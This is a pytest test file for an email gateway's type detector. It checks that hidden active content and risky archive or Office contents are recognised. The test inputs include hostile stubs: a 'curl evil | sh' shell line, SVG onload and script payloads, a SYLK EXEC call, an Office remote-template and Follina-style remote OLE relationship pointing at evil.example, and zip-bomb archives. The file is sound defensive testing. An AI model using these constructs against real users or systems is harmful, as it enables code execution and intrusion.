"""Type detection (issue 14): active content hidden in text, and what a ZIP
really holds, read from its central directory.

Every file is built in the test (zipfile for the Office packages), and
detection runs through the same entry points the worker and the upload
paths call: ``container.detect_chunks`` for a whole file and
``container.detect_part`` for a part of a message in the spool.
"""
from __future__ import annotations

import concurrent.futures
import io
import random
import re
import threading
import time
import warnings
import zipfile
from pathlib import Path

import pytest

from gateway.mime import container, sniff
from gateway.mime.decode import measure
from gateway.mime.parse import Limits, parse
from gateway.mime.source import Source
from policies.filetypes import (ARCHIVED_PROGRAM, DESKTOP_ENTRY, DOCM, DOCX, DOTM, HTA, IQY, OLE_ACTIVE, OOXML_REMOTE,
                                PPTM, PPTX, SVG, SYLK, UNEXAMINED_ARCHIVE, URL_SHORTCUT, XLAM, XLSM, XLSX)
from tests import active_documents
from tests.hostile_messages import zip_of
from tests.messages import png_bytes

# --- active content in text -------------------------------------------------

SVG_ONLOAD = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
ACTIVE: list[tuple[str, bytes, str]] = [
    ("svg first", SVG_ONLOAD, SVG),
    ("svg after an XML prolog and a comment",
     b'<?xml version="1.0" encoding="UTF-8"?>\n<!-- drawing -->\n' + SVG_ONLOAD, SVG),
    ("svg after whitespace", b"\n\n   \t" + SVG_ONLOAD, SVG),
    ("svg after a UTF-8 BOM", b"\xef\xbb\xbf" + SVG_ONLOAD, SVG),
    ("svg after junk text", b"Invoice attached, see below.\n" * 20 + SVG_ONLOAD, SVG),
    ("svg in upper case", SVG_ONLOAD.upper(), SVG),
    ("svg in UTF-16 with a BOM", ("Hello " + SVG_ONLOAD.decode()).encode("utf-16"), SVG),
    ("svg in UTF-16LE without a BOM", ("Hello " + SVG_ONLOAD.decode()).encode("utf-16-le"), SVG),
    ("html doctype", b"<!DOCTYPE html><title>x</title>", "text/html"),
    ("html after junk", b"junk junk\n<html><body>x</body></html>", "text/html"),
    ("a script tag", b"some words <script>alert(1)</script>", "text/html"),
    ("an iframe", b"text <iframe src=//evil>", "text/html"),
    ("an event handler in a tag", b"hello <p onmouseover='x()'>hi</p>", "text/html"),
    ("a javascript: link", b'<a href="javascript:alert(1)">x</a>', "text/html"),
    ("an HTML application", b"<html><head><HTA:APPLICATION ID=x></head></html>", HTA),
    ("an internet shortcut", b"[InternetShortcut]\r\nURL=file:///c:/windows/system32/calc.exe\r\n", URL_SHORTCUT),
    ("a shortcut after a section", b"[DEFAULT]\r\nBASEURL=x\r\n[InternetShortcut]\r\nURL=x\r\n", URL_SHORTCUT),
    ("a desktop entry", b"[Desktop Entry]\nType=Application\nExec=sh -c x\n", DESKTOP_ENTRY),
    ("an Excel web query", b"WEB\r\n1\r\nhttps://evil.example/q.php\r\n", IQY),
    ("an Excel web query with LF", b"web\n1\nhttps://evil.example/q.php\n", IQY),
    ("a SYLK sheet", b'ID;PWXL;N;E\r\nC;X1;Y1;K0;EEXEC("calc")\r\nE\r\n', SYLK),
    ("a shell script", b"#!/bin/sh\ncurl evil | sh\n", "text/x-shellscript"),
]


@pytest.mark.parametrize("data,expected", [(d, e) for _, d, e in ACTIVE], ids=[i for i, _, _ in ACTIVE])
def test_active_content_is_named_for_what_it_is(data: bytes, expected: str) -> None:
    assert sniff.detect(data) == expected


PLAIN: list[tuple[str, bytes, str]] = [
    ("a letter", b"Dear support,\n\nthe condition=ok flag and javascript: both puzzle me.\n", "text/plain"),
    ("a table", b"name,amount\nAda,12\nGrace,13\n", "text/csv"),
    ("an e-mail address in angle brackets", b"Write to <support@example.com> or on=call.\n", "text/plain"),
    ("a PNG with markers inside", png_bytes(200) + b"<svg onload=x>", "image/png"),
]


@pytest.mark.parametrize("data,expected", [(d, e) for _, d, e in PLAIN], ids=[i for i, _, _ in PLAIN])
def test_ordinary_files_keep_their_type(data: bytes, expected: str) -> None:
    assert sniff.detect(data) == expected


# The web-page markers as one regular expression, before the linear scan
# replaced it: the reference the scan must agree with.
_OLD_WEB_PAGE = re.compile(
    r"<!doctype\s+html|<html[\s>]|<script[\s>]|<iframe[\s>]|<object[\s>]|<embed[\s>]"
    r"|<meta[^>]*http-equiv|<[a-z][^>]*\son[a-z]+\s*=|<[a-z][^>]*(?:java|vb)script\s*:"
    r"|<body[\s>]|<frameset[\s>]|<img[^>]*\ssrc\s*=")
_PIECES = ["<", ">", "<a", "<b ", "<meta", "<img", " ", "\n", "\t", "on", "onclick", "onx", "=", " =", "src",
           " src", "http-equiv", "javascript", "vbscript", ":", " :", "x", "<!doctype", " html", "<html",
           "<script", "<body>", "\"", "'", "<<", ">>", "<1", "<", "\xa0", "\x85"]


def test_the_web_page_scan_agrees_with_the_expression_it_replaced() -> None:
    rng = random.Random(14)
    for _ in range(20_000):
        text = "".join(rng.choice(_PIECES) for _ in range(rng.randint(0, 14)))
        assert sniff._web_page(text) == bool(_OLD_WEB_PAGE.search(text)), text


@pytest.mark.parametrize("unit", ["<a ", "<a on", "<a onx ", "<img ", "<meta ", "<a java", "<a<a ", "<a>"])
def test_a_text_of_tag_starts_is_scanned_in_linear_time(unit: str) -> None:
    """8 KiB of tag starts with no ">" took 0.3-0.6 s with the expression;
    small parts are sniffed on the event loop, so that froze every session."""
    text = (unit * (8192 // len(unit) + 1))[:8192]
    marked = text[:-len(" onclick=")] + " onclick="  # the marker at the very end, inside the last tag
    # The expression's answers, on ends short enough for it to give them quickly.
    assert not _OLD_WEB_PAGE.search(text[:1024]) and _OLD_WEB_PAGE.search(marked[-1024:])
    started = time.thread_time()  # CPU time: other work on the machine does not count
    for _ in range(10):
        assert not sniff._web_page(text)
        assert sniff._web_page(marked)
    assert time.thread_time() - started < 0.5


# --- ZIP and Office Open XML ------------------------------------------------

MAIN = {
    "word/": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "xl/": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    "ppt/": "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
}
PART = {"word/": "word/document.xml", "xl/": "xl/workbook.xml", "ppt/": "ppt/presentation.xml"}


def package(folder: str = "word/", main: str | None = None, extra: list[tuple[str, bytes]] | None = None,
            extra_types: str = "", before: list[tuple[str, bytes]] | None = None) -> bytes:
    """An Office Open XML package: content types, relationships, the main
    part (of ``main`` type, the flavour's own by default), then ``extra``."""
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        # Some cases repeat a name on purpose (zipfile warns).
        warnings.simplefilter("ignore", UserWarning)
        for name, data in before or []:
            z.writestr(name, data)
        z.writestr("[Content_Types].xml",
                   '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                   '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                   '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                   '<Default Extension="xml" ContentType="application/xml"/>'
                   f'<Override PartName="/{PART[folder]}" ContentType="{main or MAIN[folder]}"/>'
                   f'{extra_types}</Types>')
        z.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships/>')
        z.writestr("docProps/core.xml", '<?xml version="1.0"?><coreProperties/>')
        z.writestr(PART[folder], '<?xml version="1.0"?><document/>')
        for name, data in extra or []:
            z.writestr(name, data)
    return out.getvalue()


def detect(data: bytes) -> str:
    return container.detect_chunks(data[:8192], iter([data[i:i + 1000] for i in range(0, len(data), 1000)]))


VBA = [("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 100)]


def pad(folder: str) -> list[tuple[str, bytes]]:
    """Entries that push what follows past the first 8 KiB."""
    return [(f"{folder}media/pad{i}.bin", bytes(range(256)) * 40) for i in range(3)]


BIG_PAD = pad("word/")
ZIPS: list[tuple[str, bytes, str]] = [
    ("a DOCX", package("word/"), DOCX),
    ("an XLSX", package("xl/"), XLSX),
    ("a PPTX", package("ppt/"), PPTX),
    ("a DOCX with a VBA project (a DOCM)", package("word/", extra=VBA), DOCM),
    ("a DOCM by its main content type", package("word/", "application/vnd.ms-word.document.macroEnabled.main+xml"),
     DOCM),
    ("a DOTM", package("word/", "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"), DOTM),
    ("an XLSM by its main content type", package("xl/", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"), XLSM),
    ("an XLSX with a VBA project content type", package(
        "xl/", extra_types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'), XLSM),
    ("an XLSX with an Excel 4 macro sheet", package("xl/", extra=[("xl/macrosheets/sheet1.xml", b"<m/>")]), XLSM),
    ("an XLSX with an Excel 4 macro sheet among the worksheets", package(
        "xl/", extra=[("xl/worksheets/sheet2.xml", b"<m/>")],
        extra_types='<Override PartName="/xl/worksheets/sheet2.xml" '
                    'ContentType="application/vnd.ms-excel.macrosheet+xml"/>'), XLSM),
    ("an XLAM", package("xl/", "application/vnd.ms-excel.addin.macroEnabled.main+xml"), XLAM),
    ("a PPTX with a VBA project late in the archive", package("ppt/", extra=pad("ppt/") + [
        ("ppt/vbaProject.bin", b"x")]), PPTM),
    ("a DOCX carrying a program", package("word/", extra=[("word/media/invoice.exe", b"MZ" + b"\x00" * 64)]),
     ARCHIVED_PROGRAM),
    ("a DOCX carrying a program after 8 KiB", package("word/", extra=BIG_PAD + [("payload.scr", b"MZ")]),
     ARCHIVED_PROGRAM),
    ("a DOCX carrying a shortcut", package("word/", extra=[("docProps/x.lnk", b"L\x00\x00\x00")]), ARCHIVED_PROGRAM),
    ("a DOCX with a stray file", package("word/", extra=[("notes.txt", b"hello")]), "application/zip"),
    ("a DOCX with a spreadsheet folder", package("word/", extra=[("xl/workbook.xml", b"<w/>")]), "application/zip"),
    ("two applications' main parts", package("word/", extra=[("xl/workbook.xml", b"<w/>")], extra_types=(
        f'<Override PartName="/xl/workbook.xml" ContentType="{MAIN["xl/"]}"/>')), "application/zip"),
    ("a DOCX with a remote template", package("word/", extra=[("word/_rels/settings.xml.rels", (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'))]),
     OOXML_REMOTE),
    ("a DOCX with a remote OLE object (Follina)", package("word/", extra=[("word/_rels/document.xml.rels", (
        b'<Relationships><Relationship Id="rId9" TargetMode="External" Target="http://evil.example/x.html!" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"/></Relationships>'))]),
     OOXML_REMOTE),
    ("a DOCX with a web link", package("word/", extra=[("word/_rels/document.xml.rels", (
        b'<Relationships><Relationship Id="rId9" TargetMode="External" Target="https://example.com/" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/></Relationships>'))]),
     DOCX),
    ("content types naming no main part", package("word/", main="application/xml"), "application/zip"),
    ("a ZIP of other files", b"", "application/zip"),  # built below
]


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("notes.txt", "not a Word document\n" * 50)
        z.writestr("data.bin", bytes(range(256)) * 8)
    return out.getvalue()


ZIPS[-1] = ("a ZIP of other files", plain_zip(), "application/zip")


@pytest.mark.parametrize("data,expected", [(d, e) for _, d, e in ZIPS], ids=[i for i, _, _ in ZIPS])
def test_a_zip_is_named_from_its_central_directory(data: bytes, expected: str) -> None:
    assert detect(data) == expected


def _local_renamed(data: bytes, old: bytes, new: bytes) -> bytes:
    i = data.index(old)  # the first: its local header
    return data[:i] + new + data[i + len(new):]


@pytest.mark.parametrize("data,expected", [
    (zip_of([("a.txt", b"x"), ("b.exe", b"MZ")]), ARCHIVED_PROGRAM),
    (zip_of([("a.txt", b"x"), ("b\u202etxt.exe", b"MZ")]), ARCHIVED_PROGRAM),
    (zip_of([("a.txt", b"x"), ("b.js. ", b"x")]), ARCHIVED_PROGRAM),
    (zip_of([("a.txt", b"x"), ("c.txt:b.exe", b"MZ")]), ARCHIVED_PROGRAM),
    (zip_of([("a.txt", b"x"), ("b.zip", zip_of([("c.exe", b"MZ")]))]), UNEXAMINED_ARCHIVE),
    (zip_of([("a.txt", b"x"), ("b.rar", b"Rar!\x1a\x07\x00")]), UNEXAMINED_ARCHIVE),
    (_local_renamed(zip_of([("a.txt", b"x"), ("notes.txt", b"MZ")]), b"notes.txt", b"setup.exe"), UNEXAMINED_ARCHIVE),
    (zip_of([("b.exe", b"MZ")]) + zip_of([("a.txt", b"x")]), UNEXAMINED_ARCHIVE),
    (b"#!/bin/sh\nstub\n" + zip_of([("a.txt", b"x")]), "text/x-shellscript"),
    (zip_of([("a.txt", b"x"), ("docs/", b""), ("b.pdf", b"%PDF-1.4")]), "application/zip"),
], ids=["program", "rtlo", "trailing-dot-space", "stream-name", "zip-in-zip", "rar-in-zip", "local-header-renamed",
        "two-archives", "stub-before", "plain"])
def test_what_a_zip_holds_decides_its_type(data: bytes, expected: str) -> None:
    assert detect(data) == expected


@pytest.mark.parametrize("streams,expected", [
    ({"WordDocument": b"\xec\xa5\xc1\x00", "1Table": b"x"}, "application/msword"),
    ({"WordDocument": b"\xec\xa5\xc1\x00", "Macros/PROJECT": b"ID="}, OLE_ACTIVE),
    ({"Workbook": b"\x09\x08\x10\x00" + bytes(16), "_VBA_PROJECT_CUR/PROJECT": b"ID="}, OLE_ACTIVE),
    ({"Workbook": b"\x09\x08\x10\x00" + bytes(16) + b"\x85\x00\x08\x00" + bytes(5) + b"\x01\x00\x00"
      + b"\x0a\x00\x00\x00"}, OLE_ACTIVE),
    ({"Workbook": b"\x09\x08\x10\x00" + bytes(16) + b"\x85\x00\x08\x00" + bytes(5) + b"\x00\x00\x00"
      + b"\x0a\x00\x00\x00"}, "application/vnd.ms-excel"),
], ids=["doc", "doc-vba", "xls-vba", "xls-macro-sheet", "xls"])
def test_an_old_office_file_is_judged_by_its_ole_directory(streams: dict[str, bytes], expected: str) -> None:
    assert detect(active_documents.ole_file(streams)) == expected


def test_the_first_8_kib_alone_would_have_passed_the_hidden_program() -> None:
    data = package("word/", extra=BIG_PAD + [("payload.exe", b"MZ")])
    assert sniff.detect(data[:8192]) == DOCX  # what the head shows
    assert detect(data) == ARCHIVED_PROGRAM


def encrypted(data: bytes) -> bytes:
    """``data`` with the encryption flag set on its first central record."""
    out = bytearray(data)
    i = out.find(b"PK\x01\x02")
    out[i + 8] |= 1
    return bytes(out)


UNREADABLE: list[tuple[str, bytes]] = [
    ("an encrypted entry", encrypted(package("word/"))),
    ("a truncated archive", package("word/")[:-200]),
    ("the first half of an archive", package("word/")[: len(package("word/")) // 2]),
    ("more entries than the bound", package("word/", extra=[(f"word/p{i}.xml", b"") for i in
                                                            range(container.MAX_ENTRIES + 1)])),
    ("duplicate names", package("word/", extra=[("word/document.xml", b"<second/>")])),
    ("a zip bomb of content types", package("word/", before=[(
        "[Content_Types].xml", b"<Types>" + b" " * (container.MAX_CONTENT_TYPES + 10) + b"</Types>")])),
    # Each relationship part under its own bound, more than MAX_INFLATED in
    # all: 48 KiB of such a ZIP cost 0.75 s of CPU to read, 650 KB 12 s.
    ("a zip bomb of relationship parts", package("word/", extra=[
        (f"word/_rels/r{i}.rels", b"<Relationship>" * ((container.MAX_CONTENT_TYPES - 100) // 14))
        for i in range(container.MAX_INFLATED // container.MAX_CONTENT_TYPES + 2)])),
]


@pytest.mark.parametrize("data", [d for _, d in UNREADABLE], ids=[i for i, _ in UNREADABLE])
def test_an_archive_that_cannot_be_read_is_unexamined(data: bytes) -> None:
    assert detect(data) == UNEXAMINED_ARCHIVE


def test_a_bounded_number_of_entries_is_read_to_a_verdict() -> None:
    data = package("word/", extra=[(f"word/p{i}.xml", b"") for i in range(container.MAX_ENTRIES - 10)])
    assert detect(data) == DOCX


def test_a_file_that_is_not_zip_like_is_not_read_past_its_head() -> None:
    def chunks():  # type: ignore[no-untyped-def]
        raise AssertionError("the whole file was read")
        yield b""

    assert container.detect_chunks(b"%PDF-1.7\n" + b"x" * 100, chunks()) == "application/pdf"


def test_a_part_in_the_spool_is_examined_whole(tmp_path: Path) -> None:
    import base64

    data = package("word/", extra=BIG_PAD + [("word/vbaProject.bin", b"x")])
    b64 = base64.encodebytes(data).replace(b"\n", b"\r\n")
    msg = (b"From: a@example.net\r\nTo: b@example.com\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
           b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nhi\r\n"
           b"--b\r\nContent-Type: " + DOCX.encode() + b"; name=c.docx\r\nContent-Transfer-Encoding: base64\r\n"
           b"Content-Disposition: attachment; filename=c.docx\r\n\r\n" + b64 + b"--b--\r\n")
    path = tmp_path / "m.eml"
    path.write_bytes(msg)
    src = Source(path)
    try:
        root = parse(src, Limits())
        leaf = [p for p in root.leaves() if p.content_type == DOCX][0]
        m = measure(src, leaf)
        assert sniff.detect(m.head) == DOCX
        assert container.detect_part(src, leaf, m) == DOCM
    finally:
        src.close()


# --- libmagic handles -------------------------------------------------------


def _magic_mappings() -> int:
    """How many times this process maps libmagic's compiled database."""
    with open("/proc/self/maps") as maps:
        return sum(1 for line in maps if line.rstrip().endswith("magic.mgc"))


@pytest.mark.skipif(not Path("/proc/self/maps").exists(), reason="needs /proc")
def test_many_threads_detecting_share_a_few_libmagic_handles(monkeypatch: pytest.MonkeyPatch) -> None:
    # Each handle maps magic.mgc on its own, and the pages it reads stay in
    # the process's RSS: 16 threads detecting at once must not make 16.
    monkeypatch.setattr(sniff, "_handles", sniff._Handles(2))
    before = _magic_mappings()
    threads = 16
    mapped: list[int] = []
    start = threading.Barrier(threads)
    # Counted while every thread is still alive (a thread's own handle, if
    # it had one, would be closed with the thread).
    done = threading.Barrier(threads, action=lambda: mapped.append(_magic_mappings()))
    text = b"Hello. The order number is 12345 and it has not come yet.\n" * 200

    def detect(_: int) -> list[str]:
        start.wait()
        found = [sniff.detect(text) for _ in range(20)]
        done.wait()
        return found

    with concurrent.futures.ThreadPoolExecutor(threads) as pool:
        results = list(pool.map(detect, range(threads)))
    assert {t for r in results for t in r} == {"text/plain"}
    if mapped == [before]:
        pytest.skip("this libmagic reads magic.mgc into memory rather than mapping it")
    assert mapped[0] - before <= 2
